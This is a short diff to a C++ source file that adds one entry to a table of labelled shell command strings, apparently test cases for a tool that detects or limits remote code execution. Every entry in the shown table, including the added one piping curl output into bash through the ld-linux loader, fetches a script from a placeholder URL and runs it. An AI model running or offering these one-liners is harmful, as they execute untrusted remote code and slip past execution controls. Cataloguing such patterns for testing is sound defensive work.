@@ -22,6 +22,8 @@ const Limit kLimits[] = {
      "/usr/bin/python3 -c 'import urllib.request as u; exec(u.urlopen(\"@PYTHON_URL\").read())'"},
     {"eval of the shell's own commands alone, in dash", "dash -c 'eval \"$(curl -s @URL)\"'"},
     {"a dot in dash, of the shell's own commands alone", "curl -s -o @D/f @URL; dash -c '. @D/f'"},
+    {"the shell's own commands alone, below a loader",
+     "curl -s @URL | /lib64/ld-linux-x86-64.so.2 /bin/bash"},
     {"text that the shell has rewritten", "x=$(curl -s @URL); eval \"true; ${x/echo/printf %s}\""},
     {"a program in a file that fetches a script and runs it",
      "printf '%s\\n' 'import os, sys, urllib.request as u' "
